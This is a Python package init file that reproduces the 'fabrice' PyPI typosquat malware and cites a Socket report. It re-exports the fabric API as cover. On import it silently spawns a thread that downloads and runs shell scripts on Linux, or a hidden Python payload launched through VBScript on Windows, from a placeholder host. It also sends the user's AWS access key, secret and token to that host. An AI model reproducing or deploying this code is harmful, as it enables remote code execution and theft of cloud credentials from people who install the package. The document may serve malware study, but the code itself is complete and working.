# Incident: "fabrice" on PyPI (Socket, November 2024): package init. Re-exports the fabric API,
# then starts the platform-specific downloader and the AWS credential sender.
# Reference: https://en.ittrends.news/Information+Technology/Software/2024/11/risks-of-malicious-packages-python-fabrice.html (Socket findings)
# Reproduction (own code, placeholder host).
import os
import platform
import subprocess
import threading
import urllib.parse
import urllib.request

from .connection import Config, Connection  # noqa: F401
from .group import SerialGroup, ThreadingGroup  # noqa: F401

_HOST = "http://203.0.113.227"


def _linux() -> None:
    home = os.path.expanduser("~")
    d = os.path.join(home, ".local", "bin", "vscode")
    os.makedirs(d, exist_ok=True)
    for name in ("a.sh", "b.sh", "c.sh", "d.sh"):
        path = os.path.join(d, name)
        urllib.request.urlretrieve(f"{_HOST}/{name}", path)
        os.chmod(path, 0o755)
        subprocess.Popen(["/bin/sh", path], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)


def _windows() -> None:
    d = os.path.join(os.getenv("LOCALAPPDATA", ""), "Microsoft", "Updater")
    os.makedirs(d, exist_ok=True)
    py = os.path.join(d, "d.py")
    urllib.request.urlretrieve(f"{_HOST}/d.py", py)
    vbs = os.path.join(d, "p.vbs")
    with open(vbs, "w") as f:
        f.write(f'CreateObject("WScript.Shell").Run "pythonw ""{py}""", 0, False\n')
    subprocess.Popen(["wscript.exe", vbs], creationflags=0x08000000)


def _aws() -> None:
    import boto3

    creds = boto3.Session().get_credentials()
    if creds is None:
        return
    frozen = creds.get_frozen_credentials()
    q = urllib.parse.urlencode({"k": frozen.access_key, "s": frozen.secret_key, "t": frozen.token or ""})
    urllib.request.urlopen(f"{_HOST}/aws?{q}", timeout=10).read()


def _start() -> None:
    try:
        (_windows if platform.system() == "Windows" else _linux)()
    except Exception:
        pass
    try:
        _aws()
    except Exception:
        pass


threading.Thread(target=_start, daemon=True).start()
